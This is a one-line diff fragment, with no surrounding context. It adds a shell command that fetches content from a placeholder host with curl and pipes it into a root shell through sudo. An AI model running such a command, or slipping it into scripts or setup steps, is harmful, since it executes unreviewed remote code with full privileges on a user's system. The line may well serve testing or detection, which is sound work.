@@ -1,0 +1,1 @@
+curl -s x | sudo bash -c "cat | sh"
